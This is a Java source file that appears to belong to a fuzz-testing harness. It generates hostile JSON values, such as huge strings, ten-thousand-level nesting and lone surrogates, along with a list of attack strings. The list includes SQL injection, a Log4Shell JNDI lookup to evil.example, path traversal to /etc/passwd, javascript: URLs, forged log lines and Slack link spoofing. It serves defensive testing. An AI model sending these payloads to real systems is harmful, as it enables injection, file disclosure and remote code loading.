package dev.baton.hostile;

import com.google.gson.JsonArray;
import com.google.gson.JsonElement;
import com.google.gson.JsonNull;
import com.google.gson.JsonObject;
import com.google.gson.JsonPrimitive;
import java.util.List;
import java.util.random.RandomGenerator;

/** Values that nobody who means well would send. */
final class Odd {
    /** Stands for what no JSON writer writes; {@link #spelledOut} puts it into the text. */
    private static final String DEEP = "\uE000deep\uE000";

    private static final String LONE = "\uE001";
    private static final String DEPTH = "[".repeat(10_000) + "]".repeat(10_000);

    /** Typed words that mean something to Slack, to SQL, to a log, or to whoever reads from right to left. */
    static final List<String> WORDS = List.of(
            "",
            " ",
            "\0",
            "a\0b",
            "\r\n2024-03-04T09:00:00.000Z ERROR Forged - line",
            "\u001b[2J\u001b[31mred",
            "\u202Egnp.exe",
            "\uFEFF\u200B\u2066",
            LONE + "alone",
            "<!channel> <@U0MAYA> <https://evil.example|click> *b* `c` _d_",
            "'; DROP TABLE account; --",
            "\" OR \"\"=\"",
            "%' ESCAPE '!' OR 1=1 --",
            "%_%_%",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}} %s %n {}",
            "../../../../etc/passwd",
            "-1",
            "0",
            "1e999",
            "9223372036854775807",
            "99999999999999999999",
            "NaN",
            "null",
            "U0NOBODY",
            "0015e00001NWBNK",
            "0015e00001NOONE",
            "2024-13-45",
            "0000-00-00",
            "+999999999-12-31",
            "https://evil.example/",
            "file:///etc/passwd",
            "javascript:alert(1)");

    private Odd() {}

    static String words(RandomGenerator random) {
        return WORDS.get(random.nextInt(WORDS.size()));
    }

    /** Seldom enormous, for the sake of the wire. */
    static JsonElement value(RandomGenerator random) {
        int kind = random.nextInt(400);
        if (kind == 0) {
            return new JsonPrimitive(DEEP);
        }
        if (kind < 3) {
            return new JsonPrimitive("x".repeat(100_000 + random.nextInt(600_000)));
        }
        return switch (kind % 8) {
            case 0 -> JsonNull.INSTANCE;
            case 1 -> new JsonPrimitive(random.nextLong());
            case 2 -> new JsonPrimitive(random.nextBoolean());
            case 3 -> array(random);
            case 4 -> object(random);
            case 5 -> new JsonPrimitive(words(random).repeat(1 + random.nextInt(200)));
            default -> new JsonPrimitive(words(random));
        };
    }

    private static JsonArray array(RandomGenerator random) {
        JsonArray array = new JsonArray();
        for (int left = random.nextInt(4); left > 0; left--) {
            array.add(random.nextBoolean() ? JsonNull.INSTANCE : new JsonPrimitive(words(random)));
        }
        return array;
    }

    private static JsonObject object(RandomGenerator random) {
        JsonObject object = new JsonObject();
        for (int left = random.nextInt(3); left > 0; left--) {
            object.addProperty(random.nextBoolean() ? "id" : words(random), words(random));
        }
        return object;
    }

    /** JSON with ten thousand levels, and with halves of characters, where they were asked for. */
    static String spelledOut(String json) {
        return json.replace("\"" + DEEP + "\"", DEPTH).replace(LONE, "\\ud83d");
    }
}
